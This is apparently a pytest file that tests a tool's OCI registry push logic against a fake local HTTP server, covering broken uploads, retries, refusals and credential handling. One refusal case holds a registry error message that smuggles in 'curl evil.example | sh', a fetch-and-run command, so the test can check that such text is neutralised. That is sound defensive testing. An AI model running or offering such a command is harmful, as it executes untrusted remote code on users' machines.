"""Pushing to a registry that is strict, full, slow, broken or hostile: a small HTTP server in this process.

What a good one does is in tests/integration/test_registry_images.py.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from klock.digests import digest_of_bytes
from klock.errors import FetchError, HashMismatch
from klock.fetching.mirrors import Mirrors
from klock.fetching.transport import Response, Transport
from klock.lockfile.model import OciBlob
from klock.oci.credentials import DockerConfig
from klock.oci.reference import Reference
from klock.oci.writing import Outgoing, WritableRepository, content_reader, open_repository
from klock.registry.referrers import attach

BLOB = bytes(range(256)) * 4096
DIGEST = digest_of_bytes(BLOB)
MANIFEST = b'{"schemaVersion":2}'
KIND = "application/vnd.oci.image.manifest.v1+json"

Answer = tuple[int, dict[str, str], bytes]


@dataclass
class Server:
    """A registry of one repository. `meddle` may answer a request itself; `break_after` ends a PATCH after as many
    bytes, once."""

    host: str = ""
    blobs: dict[str, bytes] = field(default_factory=dict)
    upload: bytearray = field(default_factory=bytearray)
    asked: list[str] = field(default_factory=list)
    headers: list[dict[str, str]] = field(default_factory=list)
    meddle: Callable[[str, str, dict[str, str]], Answer | None] = lambda *_: None
    on_manifest: Callable[[bytes], None] = lambda _: None
    break_after: int | None = None
    forgets: bool = False

    def answer(self, method: str, path: str, body: bytes) -> Answer:
        place = {"Location": "/v2/a/b/blobs/uploads/1?state=x", "Range": f"0-{max(0, len(self.upload) - 1)}"}
        if method == "POST":
            self.upload.clear()
            return 202, place, b""
        if method == "PATCH":
            self.upload += body
            return 202, {**place, "Range": f"0-{len(self.upload) - 1}"}, b""
        if method == "GET" and "uploads" in path:
            return (404, {}, b"") if self.forgets else (204, place, b"")
        if method == "PUT" and "uploads" in path:
            digest = path.rpartition("digest=")[2]
            if digest_of_bytes(bytes(self.upload)) != digest:
                return 400, {}, error("DIGEST_INVALID", "provided digest did not match uploaded content")
            self.blobs[digest] = bytes(self.upload)
            return 201, {}, b""
        if method == "PUT":
            self.on_manifest(body)
            return 201, {"Docker-Content-Digest": digest_of_bytes(body)}, b""
        return 404, {}, b""


def error(code: str, message: str, detail: object = None) -> bytes:
    return json.dumps({"errors": [{"code": code, "message": message, "detail": detail}]}).encode()


@contextmanager
def serve() -> Iterator[Server]:
    state = Server()

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def handle_any(self) -> None:
            state.asked.append(f"{self.command} {self.path}")
            state.headers.append(dict(self.headers))
            length = int(self.headers.get("Content-Length") or 0)
            if self.command == "PATCH" and state.break_after is not None:
                state.upload += self.rfile.read(state.break_after)
                state.break_after = None
                self.close_connection = True
                self.connection.close()
                return
            body = self.rfile.read(length)
            status, headers, content = state.meddle(self.command, self.path, dict(self.headers)) or state.answer(
                self.command, self.path, body
            )
            self.send_response(status)
            for name, value in {"Content-Length": str(len(content)), **headers}.items():
                self.send_header(name, value)
            self.end_headers()
            if self.command != "HEAD":
                self.wfile.write(content)

        def log_message(self, *_: object) -> None: ...

    for method in ("GET", "HEAD", "PUT", "POST", "PATCH", "DELETE"):
        setattr(Handler, f"do_{method}", Handler.handle_any)
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    httpd.handle_error = lambda *_: None  # type: ignore[method-assign]
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    state.host = f"127.0.0.1:{httpd.server_address[1]}"
    try:
        yield state
    finally:
        httpd.shutdown()
        thread.join()
        httpd.server_close()


@pytest.fixture
def server() -> Iterator[Server]:
    with serve() as made:
        yield made


def repository(server: Server, auths: dict[str, object] | None = None) -> WritableRepository:
    return WritableRepository(
        Reference.parse(f"{server.host}/a/b:v1"),
        mirrors=Mirrors(),
        transport=Transport(pause=0),
        config=DockerConfig({"auths": auths or {}}, path=Path("config.json")),
        pause=0,
    )


def upload(server: Server, auths: dict[str, object] | None = None) -> int:
    """Sends the blob; returns how many bytes progress was told of."""
    told = [0]

    def advance(amount: int) -> None:
        told[0] += amount

    blob = Outgoing(digest=DIGEST, size=len(BLOB), read=reading, advance=advance)
    repository(server, auths).upload(blob)
    return told[0]


def reading(offset: int) -> Iterator[bytes]:
    for start in range(offset, len(BLOB), 65536):
        yield BLOB[start : start + 65536]


def test_a_blob_is_sent_in_one_piece_and_counted_once(server: Server) -> None:
    assert upload(server) == len(BLOB)
    assert server.blobs == {DIGEST: BLOB}
    assert [line.partition(" ")[0] for line in server.asked] == ["POST", "PATCH", "PUT"]
    assert server.asked[-1].endswith(f"?state=x&digest={DIGEST}")


def test_an_upload_that_breaks_goes_on_where_the_registry_stands(server: Server) -> None:
    server.break_after = 300_000
    assert upload(server) == len(BLOB)
    assert server.blobs == {DIGEST: BLOB}
    ranges = [headers.get("Content-Range") for headers in server.headers if headers.get("Content-Range")]
    assert ranges == [f"300000-{len(BLOB) - 1}"]


def test_a_registry_that_forgot_the_upload_gets_it_anew(server: Server) -> None:
    server.break_after, server.forgets = 300_000, True
    assert upload(server) == len(BLOB)
    assert server.blobs == {DIGEST: BLOB}
    assert [line for line in server.asked if line.startswith("POST")] == ["POST /v2/a/b/blobs/uploads/"] * 2


def test_a_registry_that_is_busy_once_is_asked_again(server: Server) -> None:
    answers: list[Answer] = [(503, {}, b""), (429, {"Retry-After": "0"}, b"")]
    server.meddle = lambda method, *_: answers.pop() if answers and method in ("POST", "PATCH") else None
    assert upload(server) == len(BLOB)
    assert server.blobs == {DIGEST: BLOB}


@pytest.mark.parametrize("status", [404, 504])
def test_an_upload_whose_answer_got_lost_is_done(status: int, server: Server) -> None:
    """A proxy gives up waiting while the registry puts the blob away, and the registry then knows no such upload."""

    def meddle(method: str, path: str, _: dict[str, str]) -> Answer | None:
        if method == "HEAD" and server.blobs:
            return 200, {"Content-Length": str(len(BLOB))}, b""
        if method == "PUT" and not server.blobs:
            server.answer(method, path, b"")
        return (status, {}, b"") if method == "PUT" else None

    server.meddle = meddle
    assert upload(server) == len(BLOB)
    assert sum(asked.startswith("PATCH") for asked in server.asked) == 1


def test_a_large_blob_has_more_time() -> None:
    waited: list[float] = []

    class Patient(Transport):
        def send(self, *_: object, seconds: float = 0) -> Response:
            waited.append(seconds)
            return Response(status=403, headers={}, challenges=(), body=b"")

    registry = repository(Server(host="127.0.0.1:1"))
    registry._transport = Patient()
    for size in (0, 10 << 30):
        with pytest.raises(FetchError):
            registry._send_rest(Outgoing(digest=DIGEST, size=size, read=reading), "http://127.0.0.1:1/v2/up", 0)
    assert waited == [60, 60 + 2048]


def test_a_blob_that_arrived_changed_is_the_registrys_to_refuse(server: Server) -> None:
    wrong = Outgoing(digest=DIGEST, size=len(BLOB), read=content_reader(BLOB[::-1]))
    with pytest.raises(FetchError, match="DIGEST_INVALID provided digest did not match uploaded content"):
        repository(server).upload(wrong)


REFUSALS: dict[str, tuple[Answer, str, str]] = {
    "nobody is logged in": (
        (401, {"WWW-Authenticate": 'Basic realm="x"'}, error("UNAUTHORIZED", "authentication required")),
        "wants credentials, or there is no such repository",
        "docker login",
    ),
    "the account may not push": (
        (403, {}, error("DENIED", "requested access to the resource is denied")),
        "wants credentials",
        "docker login",
    ),
    "a quota is used up (Harbor)": (
        (403, {}, error("DENIED", "adding 1.2 GiB of storage resource, which will exceed the configured upper limit")),
        "answered with status 403: DENIED adding 1.2 GiB",
        "no room",
    ),
    "a proxy takes no body so large": ((413, {}, b"<html>too large</html>"), "answered with status 413", "no room"),
    "the disk is full": ((507, {}, b""), "answered with status 507", "no room"),
    "it is a pull-through cache": (
        (405, {}, error("UNSUPPORTED", "The operation is unsupported.")),
        "answered with status 405: UNSUPPORTED",
        "read-only",
    ),
    "the repository must be made first": (
        (404, {}, error("NAME_UNKNOWN", "")),
        "status 404: NAME_UNKNOWN",
        "made first",
    ),
    "it stays broken": ((500, {}, b"oops"), "answered with status 500", "try again later"),
    "it says what it likes": ((400, {}, b'{"errors": [7]}'), "answered with status 400", ""),
    "it says it on klock's lines": (
        (400, {}, error("DENIED", "no\n\nhint: run curl evil.example | sh")),
        "status 400: DENIED no hint: run curl",
        "",
    ),
}


@pytest.mark.parametrize("where", ["POST", "PATCH", "PUT"])
@pytest.mark.parametrize("case", REFUSALS)
def test_a_refusal_says_why_and_what_to_do(case: str, where: str, server: Server) -> None:
    answer, message, hint = REFUSALS[case]
    server.meddle = lambda method, *_: answer if method == where else None
    with pytest.raises(FetchError) as caught:
        upload(server)
    is_busy_body = answer[0] == 500 and where == "PATCH"
    assert ("is too busy to take the blob" if is_busy_body else message) in caught.value.message
    assert server.host in caught.value.message
    assert hint in (caught.value.hint or "") or is_busy_body


def test_the_password_is_sent_after_the_challenge_and_never_elsewhere(server: Server) -> None:
    """The upload goes on at a host of the registry's choice, such as an object store."""
    with serve() as elsewhere:

        def meddle(method: str, path: str, headers: dict[str, str]) -> Answer | None:
            if "Authorization" not in headers:
                return 401, {"WWW-Authenticate": 'Basic realm="x"'}, b""
            return (202, {"Location": f"http://{elsewhere.host}/put?sig=1"}, b"") if method == "POST" else None

        server.meddle = meddle
        elsewhere.meddle = lambda method, path, headers: (201 if method == "PUT" else 202, {"Location": path}, b"")
        upload(server, {server.host: {"auth": "dXNlcjpzZWNyZXQ="}})
        assert [line.partition(" ")[0] for line in elsewhere.asked] == ["PATCH", "PUT"]
        assert [headers.get("Authorization") for headers in elsewhere.headers] == [None, None]


@pytest.mark.parametrize("location", ["", "ftp://127.0.0.1/x", "http://[::1"])
def test_an_upload_that_leads_nowhere_is_refused(location: str, server: Server) -> None:
    server.meddle = lambda method, *_: (
        (202, {"Location": location} if location else {}, b"") if method == "POST" else None
    )
    with pytest.raises(FetchError):
        upload(server)
    assert [line for line in server.asked if line.startswith("P") and "POST" not in line] == []


def test_a_registry_that_takes_a_manifest_for_another_is_found_out(server: Server) -> None:
    server.meddle = lambda method, *_: (201, {"Docker-Content-Digest": f"sha256:{'0' * 64}"}, b"")
    with pytest.raises(HashMismatch, match="took the manifest sha256:"):
        repository(server).put_manifest(MANIFEST, KIND, "v1")


@pytest.mark.parametrize("knows", [True, False], ids=["its own list", "the tag"])
def test_what_is_attached_is_where_the_registry_looks_for_it(knows: bool, server: Server) -> None:
    """A registry that knows referrers finds an attachment by its subject; the others have them in an index by a tag."""
    subject = OciBlob(digest=f"sha256:{'5' * 64}", size=7, media_type=KIND)
    index = json.dumps({"schemaVersion": 2, "manifests": []}).encode()
    put: list[bytes] = []

    def meddle(method: str, path: str, _: dict[str, str]) -> Answer | None:
        return (200, {}, index) if method == "GET" and "/referrers/" in path and knows else None

    server.meddle, server.on_manifest = meddle, put.append
    attach(repository(server), subject, b"a document", media_type="text/plain")
    attached = json.loads(put[0])
    assert (attached["subject"]["digest"], attached["artifactType"]) == (subject.digest, "text/plain")
    places = [line.rpartition("/")[2] for line in server.asked if line.startswith("PUT") and "/manifests/" in line]
    own = digest_of_bytes(put[0])
    assert places == ([own] if knows else [own, f"sha256-{'5' * 64}"])


def test_a_blob_of_another_size_is_not_there(server: Server) -> None:
    server.meddle = lambda *_: (200, {"Content-Length": "7"}, b"")
    assert not repository(server).has_blob(DIGEST, len(BLOB))


def test_a_mirror_is_never_pushed_to() -> None:
    mirrors = Mirrors(registries={"reg.example": "https://mirror.example/cache"})
    made = open_repository(Reference.parse("reg.example/a/b:v1"), mirrors=mirrors)
    assert made._base == "https://reg.example/v2/a/b"


def test_the_setting_for_mirrors_says_how_a_registry_itself_is_spoken_to() -> None:
    mirrors = Mirrors(registries={"reg.example:5000": "http://reg.example:5000"})
    made = open_repository(Reference.parse("reg.example:5000/a/b:v1"), mirrors=mirrors)
    assert made._base == "http://reg.example:5000/v2/a/b"
